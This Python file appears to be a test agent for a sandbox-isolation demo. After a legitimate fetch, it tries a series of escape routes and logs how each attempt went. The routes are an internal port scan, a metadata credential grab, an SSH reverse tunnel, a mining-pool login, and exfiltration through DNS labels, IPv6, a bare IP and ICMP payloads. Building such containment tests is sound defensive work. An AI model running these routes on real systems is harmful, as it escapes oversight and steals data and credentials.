# SPDX-License-Identifier: Apache-2.0
"""The agent: does its task, then tries one way out after another.

A plain program that knows nothing of the wall. ``agent.py SCRIPT.json``; says on stdout, one JSON
object a line, how it believes each attempt went. What truly happened, the far side tells.
"""

from __future__ import annotations

import base64
import errno
import json
import os
import socket
import struct
import subprocess
import sys
import threading
from typing import Any

TIMEOUT_S = 60.0

Script = dict[str, Any]
"""Addresses, and what the agent carries; demo/act.py writes it."""


def fetch(script: Script) -> str:
    """Do the task: resolve the API's name and get a document over TLS."""
    body = curl("--cacert", script["authority"], script["url"])
    return f"got {len(json.loads(body)['data'])} models"


def scan(script: Script) -> str:
    """Knock at every port of the internal subnet, and talk to what opens."""
    results: dict[str, int] = {}
    for host, port in script["scan"]:
        result = knock(host, port)
        results[result] = results.get(result, 0) + 1
    summary = ", ".join(f"{count} {result}" for result, count in sorted(results.items()))
    if set(results) == {errno.errorcode[errno.EPERM]}:
        raise PermissionError(errno.EPERM, summary)
    return summary


def knock(host: str, port: int) -> str:
    """Return ``open`` or the name of the error."""
    try:
        with socket.create_connection((host, port), TIMEOUT_S) as peer:
            peer.sendall(b"PING\r\n")
            peer.recv(64)
            return "open"
    except TimeoutError:
        return "silent"
    except OSError as err:
        return errno.errorcode.get(err.errno or 0, str(err))


def metadata(script: Script) -> str:
    """Ask the cloud's metadata service for credentials."""
    return curl(f"http://{script['metadata']}/latest/meta-data/iam/security-credentials/")


def tunnel(script: Script) -> str:
    """Open a door into this sandbox from the outside, with OpenSSH."""
    with socket.create_server(("127.0.0.1", 0)) as door:
        threading.Thread(target=hand_out, args=(door, script["loot"]), daemon=True).start()
        forward = f"{script['tunnel_port']}:127.0.0.1:{door.getsockname()[1]}"
        *options, destination = script["ssh"]
        return run([*options, "-R", forward, destination, str(script["tunnel_port"])])


def hand_out(door: socket.socket, loot: str) -> None:
    """Give the loot to whoever comes through the tunnel."""
    try:
        visitor, _ = door.accept()
    except OSError:
        return
    with visitor:
        visitor.sendall(f"{loot}\n".encode())


def pool(script: Script) -> str:
    """Log in to the mining pool and take a job."""
    login = (
        '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}\n'
        '{"id":2,"method":"mining.authorize","params":["rollout.gpu0","x"]}\n'
    )
    with socket.create_connection(tuple(script["pool"]), TIMEOUT_S) as peer:
        peer.sendall(login.encode())
        for line in peer.makefile("r"):
            message = json.loads(line)
            if message.get("method") == "mining.notify":
                return f"took job {message['params'][0]}"
    raise ConnectionError("the pool hung up")


def udp(script: Script) -> str:
    """Hide data in the labels of a DNS question to a resolver of our own."""
    text = base64.b32encode(script["loot"].encode()).decode().rstrip("=").lower()
    labels = [text[at : at + 60] for at in range(0, len(text), 60)] + ["x", "example"]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    header = struct.pack("!6H", 0x4242, 0x0100, 1, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(header + name + struct.pack("!HH", 16, 1), tuple(script["udp"]))
    return f"sent {len(labels) - 2} labels"


def ipv6(script: Script) -> str:
    """Upload over the protocol that firewalls forget."""
    with socket.create_connection(tuple(script["ipv6"]), TIMEOUT_S) as peer:
        loot = script["loot"]
        peer.sendall(f"POST / HTTP/1.1\r\nContent-Length: {len(loot)}\r\n\r\n{loot}".encode())
        return peer.recv(64).split(b"\r\n")[0].decode()


def direct(script: Script) -> str:
    """Upload to an address that no name leads to."""
    return curl("--data", script["loot"], f"http://{script['direct']}/")


def ping(script: Script) -> str:
    """Hide data in an echo request, from a ping socket: no capability needed."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sender:
        sender.sendto(
            struct.pack("!BBHHH", 8, 0, 0, 0, 1) + script["loot"].encode(), (script["ping"], 0)
        )
    return "sent"


def raw(script: Script) -> str:
    """Hide data in an echo request, made by hand on a raw socket."""
    packet = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + script["loot"].encode()
    packet = packet[:2] + struct.pack("!H", internet_checksum(packet)) + packet[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sender:
        sender.sendto(packet, (script["raw"], 0))
    return "sent"


def internet_checksum(data: bytes) -> int:
    """Return the checksum of RFC 1071."""
    padded = data + b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def curl(*arguments: str) -> str:
    """Return what curl printed."""
    return run(["curl", "-sSv", "--max-time", "60", *arguments])


def run(command: list[str]) -> str:
    """Return what *command* printed; its failure is an OSError."""
    done = subprocess.run(
        command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=90, check=False
    )
    if done.returncode == 0:
        return done.stdout.strip()
    complaint = (done.stderr.strip().splitlines() or [""])[-1]
    code = errno.EPERM if os.strerror(errno.EPERM) in done.stderr else errno.EIO
    raise OSError(code, f"{command[0]} exit {done.returncode}: {complaint}")


DAY = (fetch, scan, metadata, tunnel, pool, udp, ipv6, direct, ping, raw)


def main() -> None:
    """Live the day."""
    with open(sys.argv[1], encoding="utf-8") as file:
        script = json.load(file)
    for deed in DAY:
        try:
            claim = {"outcome": "done", "detail": deed(script)}
        except (OSError, ValueError, subprocess.TimeoutExpired) as err:
            name = errno.errorcode.get(getattr(err, "errno", None) or 0, type(err).__name__)
            claim = {"outcome": name, "detail": str(err)}
        print(json.dumps({"attempt": deed.__name__, **claim}), flush=True)


if __name__ == "__main__":
    main()
